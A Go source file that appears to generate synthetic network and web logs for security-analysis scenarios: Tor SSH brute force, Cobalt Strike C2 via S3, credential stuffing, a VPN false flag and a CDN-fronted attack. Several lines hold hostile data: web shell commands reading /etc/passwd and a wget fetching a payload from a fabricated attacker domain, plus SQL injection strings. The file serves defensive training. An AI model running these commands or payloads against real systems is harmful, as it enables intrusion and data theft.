package scenario

import (
	"fmt"
	"time"
)

// 1. SSH brute force through rotating Tor exits, then a login from a
// university server.
func buildTorBruteforce(g *gen) {
	s := g.sshd()
	members, _ := g.bruteThenLogin(s, g.t0, "")
	g.campaign(members...)
	g.sshScanners(s, g.between(2, 4))
	if g.chance(0.6) {
		g.homeAdmin(s)
	}
}

// 2. C2 over a cloud storage API plus a staging VPS with a fresh domain,
// after a web shell driven from another rented server.
func buildCloudC2(g *gen) {
	public, client := g.victim()
	region := pick(g, []string{"eu-west-1", "us-east-1", "eu-central-1", "us-west-2"})
	bucket := fmt.Sprintf("%s-%s-sync", slug(pick(g, nameStems)), g.hex(6))
	storageHost := bucket + ".s3." + region + ".amazonaws.com"
	g.mispAdd("cloud-storage-hostnames", "List of known cloud storage and file hosting domains",
		"Hostnames of public cloud storage and file sharing services (legitimate platforms often abused as C2 dead drops).",
		"hostname", []string{"hostname", "domain", "url"},
		"amazonaws.com", "blob.core.windows.net", "storage.googleapis.com", "dropboxapi.com", "onedrive.live.com")
	var storage []string
	for i := g.between(1, 2); i > 0; i-- {
		n := g.newNet(kindCloud, pick(g, places))
		n.service, n.region = "S3", region
		for k := g.between(1, 3); k > 0; k-- {
			storage = append(storage, g.addr(n).String())
		}
	}
	// Staging VPS with a freshly registered domain behind privacy WHOIS.
	vps := g.hostIn(kindHosting)
	domain := pick(g, []string{"cdn-update-", "sync-telemetry-", "static-assets-", "msupdate-"}) + g.hex(4) + pick(g, []string{".com", ".net"})
	t := g.t0
	g.whoisDomain(domain, t.Add(-time.Duration(g.between(2, 25))*24*time.Hour-g.secs(0, 86399)), true)
	g.whoisIP(vps)
	ja3 := g.ja3()
	// Initial stager download from the VPS, then a beacon to the domain.
	for k := g.between(3, 8); k > 0; k-- {
		sig := "ET MALWARE Cobalt Strike Beacon Observed"
		if g.chance(0.4) {
			sig = "ET MALWARE Cobalt Strike Malleable C2 JQuery Custom Profile Response"
		}
		g.eve(t, eveRec{EventType: "alert", SrcIP: client, SrcPort: g.between(49152, 65535), DestIP: vps.String(), DestPort: 443, AppProto: "tls",
			Alert: &eveAlert{"allowed", 1, g.between(2027000, 2029999), g.between(1, 6), sig, "A Network Trojan was detected", 1},
			TLS:   &eveTLS{SNI: domain, Version: "TLS 1.2", Subject: "CN=" + domain, Issuer: "C=US, O=Let's Encrypt, CN=R11", JA3: ja3}})
		t = t.Add(g.secs(45, 900))
	}
	g.role(vps.String(), Perpetrator)
	g.role(domain, Perpetrator)
	// Initial access: a web shell on the victim's web server, driven from
	// a second rented server of the operator's, before the stager ran.
	op := g.hostIn(kindHosting)
	g.whoisIP(op)
	shell := "/wp-content/uploads/" + pick(g, []string{"thumb.php", "cache.php", "wp-info.php"}) + "?cmd="
	opUA := pick(g, []string{"curl/7.88.1", "python-requests/2.31.0", pick(g, browserUAs)})
	ts := g.t0.Add(-g.secs(1800, 7200))
	for _, cmd := range []string{"id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www/html", "ps+aux", "wget+-q+-O+/tmp/.u+https://" + domain + "/u"}[:g.between(3, 6)] {
		g.access(ts, op.String(), "", "GET", shell+cmd, 200, g.between(40, 4000), "", opUA)
		ts = ts.Add(g.secs(20, 240))
	}
	g.role(op.String(), Perpetrator)
	// Tasking and exfiltration through the bucket, hours on end.
	usedStorage := map[string]bool{}
	for k := g.between(10, 25); k > 0; k-- {
		dst := pick(g, storage)
		usedStorage[dst] = true
		rec := eveRec{EventType: "tls", SrcIP: client, SrcPort: g.between(49152, 65535), DestIP: dst, DestPort: 443, AppProto: "tls",
			TLS: &eveTLS{SNI: storageHost, Version: "TLS 1.3", JA3: ja3}}
		if g.chance(0.35) {
			rec.EventType = "alert"
			rec.Alert = &eveAlert{"allowed", 1, g.between(2030000, 2031999), 1,
				"ET MALWARE Possible C2 Beacon to Cloud Storage Bucket (AWS S3 dead drop)", "A Network Trojan was detected", 1}
		}
		g.eve(t, rec)
		t = t.Add(g.secs(240, 1500))
	}
	// Truth names only sources the logs contain: a bucket address the
	// implant never happened to reach is not in the case.
	var reached []string
	for _, a := range storage {
		if usedStorage[a] {
			g.role(a, Platform)
			reached = append(reached, a)
		}
	}
	g.role(storageHost, Platform)
	g.campaign(append([]string{vps.String(), domain, op.String()}, reached...)...)
	g.note("The operator drove a web shell from %s, staged the implant from %s (%s, registered days before) and used the S3 bucket %s as its C2 channel.", op, vps, domain, bucket)
	// Perimeter scanning seen by the same sensor.
	for i := g.between(2, 5); i > 0; i-- {
		h := g.scanner(0.75)
		for k := g.between(1, 4); k > 0; k-- {
			port := pick(g, []int{22, 23, 445, 1433, 3306, 3389, 5900, 8080})
			g.eve(g.t0.Add(g.secs(-7200, 30000)), eveRec{EventType: "alert", SrcIP: h.String(), SrcPort: g.between(1024, 65535), DestIP: public, DestPort: port,
				Alert: &eveAlert{"allowed", 1, 2010935 + port%7, 3, fmt.Sprintf("ET SCAN Suspicious inbound to port %d", port), "Potentially Bad Traffic", 2}})
		}
	}
}

// 3. Credential stuffing from a residential proxy pool.
func buildResidentialPool(g *gen) {
	ua := pick(g, browserUAs)
	ua = ua[:len(ua)-3] + fmt.Sprint(g.between(100, 999))
	n := g.between(250, 600)
	var pool []*network
	var members []string
	t := g.t0
	for i := 0; i < n; i++ {
		var net *network
		if len(pool) == 0 || g.chance(0.6) {
			net = g.newNet(pick(g, []string{kindResidential, kindResidential, kindResidential, kindCellular}), pick(g, places))
			pool = append(pool, net)
		} else {
			net = pick(g, pool)
		}
		h := g.addr(net)
		h.resProxy = g.chance(0.8)
		for k := g.between(1, 3); k > 0; k-- {
			user := g.email()
			status, outcome := 401, "failure"
			if g.chance(0.01) {
				status, outcome = 302, "success"
			}
			g.access(t, h.String(), "", "POST", "/account/login", status, g.between(300, 900), "https://shop.example/account/login", ua)
			g.appAuth(t.Add(g.secs(0, 1)), h.String(), user, outcome, ua)
			t = t.Add(time.Duration(200+g.rng.IntN(1800)) * time.Millisecond)
		}
		g.role(h.String(), Relay)
		members = append(members, h.String())
	}
	g.campaign(members...)
	g.note("%d addresses of a residential proxy pool in %d networks, one user agent; about 80%% flagged is_residential_proxy.", n, len(pool))
	// Real customers shopping and logging in.
	for i := g.between(3, 6); i > 0; i-- {
		h := g.hostIn(pick(g, []string{kindResidential, kindCellular}))
		cua := pick(g, browserUAs)
		at := g.t0.Add(g.secs(-3*3600, 3*3600))
		for _, p := range []string{"/", "/catalog/shoes", "/account/login"} {
			g.access(at, h.String(), "", "GET", p, 200, g.between(4000, 40000), "https://shop.example/", cua)
			at = at.Add(g.secs(3, 90))
		}
		g.access(at, h.String(), "", "POST", "/account/login", 302, 512, "https://shop.example/account/login", cua)
		g.appAuth(at, h.String(), g.email(), "success", cua)
		g.role(h.String(), Undetermined)
	}
}

// 4. False flag: VPN exits geolocated to a third country, and one slip
// where the operator connects directly from a rented server.
func buildFalseFlag(g *gen) {
	s := g.sshd()
	user := pick(g, []string{"svc-deploy", "ops-maint", "backup-agent", "monitor"})
	fp := g.keyFP()
	third := pick(g, places)
	var home place
	for home = pick(g, places); home.cc == third.cc; home = pick(g, places) {
	}
	var exits []*host
	var nets []*network
	for i := g.between(1, 3); i > 0; i-- {
		n := g.newNet(kindHosting, third)
		nets = append(nets, n)
	}
	for i := g.between(3, 6); i > 0; i-- {
		h := g.addr(pick(g, nets))
		h.vpn = g.chance(0.85)
		if g.chance(0.6) {
			g.mispAdd("vpn-ipv4", "Specialized list of IPv4 addresses belonging to common VPN providers and datacenters",
				"Specialized list of IPv4 addresses belonging to common VPN providers and datacenters", "cidr", ipAttrs, h.String())
		}
		exits = append(exits, h)
		g.role(h.String(), Relay)
	}
	t := g.t0
	var members []string
	for _, h := range exits {
		for k := g.between(1, 3); k > 0; k-- {
			t = s.accept(t, h.String(), user, fp, g.secs(900, 5400)).Add(g.secs(2*3600, 20*3600))
		}
		members = append(members, h.String())
	}
	slip := g.addr(g.newNet(kindHosting, home))
	g.whoisIP(slip)
	at := g.t0.Add(time.Duration(t.Sub(g.t0).Seconds()*g.rng.Float64()) * time.Second)
	s.accept(at, slip.String(), user, fp, g.secs(1800, 3*3600))
	g.role(slip.String(), Perpetrator)
	members = append(members, slip.String())
	g.campaign(members...)
	g.note("The operator used %d VPN exits located in %s and once connected directly from %s (%s, %s).",
		len(exits), third.country, slip, slip.net.asOrg, home.country)
	g.sshScanners(s, g.between(1, 3))
}

// 5. A web server behind a CDN without trusted X-Forwarded-For.
func buildCDNFronted(g *gen) {
	g.vantage = append(g.vantage, logAccess)
	var edges []*host
	for i := g.between(2, 3); i > 0; i-- {
		n := g.newNet(kindCDN, pick(g, places))
		n.service, n.region = "CLOUDFRONT", "GLOBAL"
		for k := g.between(3, 7); k > 0; k-- {
			edges = append(edges, g.addr(n))
		}
	}
	t := g.t0
	attackUA := "Mozilla/5.0 (compatible; " + pick(g, []string{"sqlmap/1.8.2#stable (https://sqlmap.org)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}) + ")"
	for k := g.between(60, 160); k > 0; k-- {
		e := pick(g, edges)
		path := pick(g, []string{"/products?id=1%27%20AND%201%3D1--", "/products?id=1%20UNION%20SELECT%20NULL,NULL--", "/admin/login",
			"/.env", "/products?id=1%27%29%20OR%20SLEEP%285%29--", "/wp-login.php"})
		status := pick(g, []int{200, 404, 500, 403})
		method := "GET"
		if path == "/admin/login" {
			method, status = "POST", 401
		}
		g.access(t, e.String(), "", method, path, status, g.between(200, 9000), "-", attackUA)
		t = t.Add(time.Duration(300+g.rng.IntN(4000)) * time.Millisecond)
	}
	// The attacker gets in: a successful admin login and an upload.
	e := pick(g, edges)
	g.access(t, e.String(), "admin", "POST", "/admin/login", 302, 0, "https://www.shop.example/admin/login", attackUA)
	g.access(t.Add(4*time.Second), e.String(), "admin", "POST", "/admin/media/upload", 200, 87, "https://www.shop.example/admin/", attackUA)
	// Ordinary visitors, through the same edges.
	for k := g.between(80, 200); k > 0; k-- {
		at := g.t0.Add(g.secs(-4*3600, 4*3600))
		g.access(at, pick(g, edges).String(), "", "GET", pick(g, []string{"/", "/products", "/products?id=17", "/cart", "/static/app.js"}),
			200, g.between(800, 60000), "https://www.shop.example/", pick(g, browserUAs))
	}
	for _, e := range edges {
		g.role(e.String(), Platform)
	}
	// One edge range was added after the ip-ranges.json snapshot (gap).
	if g.chance(0.35) {
		edges[0].net.kind = kindHosting
		g.note("Edge range %s is missing from the ip-ranges.json snapshot.", edges[0].net.prefix)
	}
	g.note("The web server sees only CloudFront edge addresses; every logged address is the CDN's, none is the attacker's.")
}
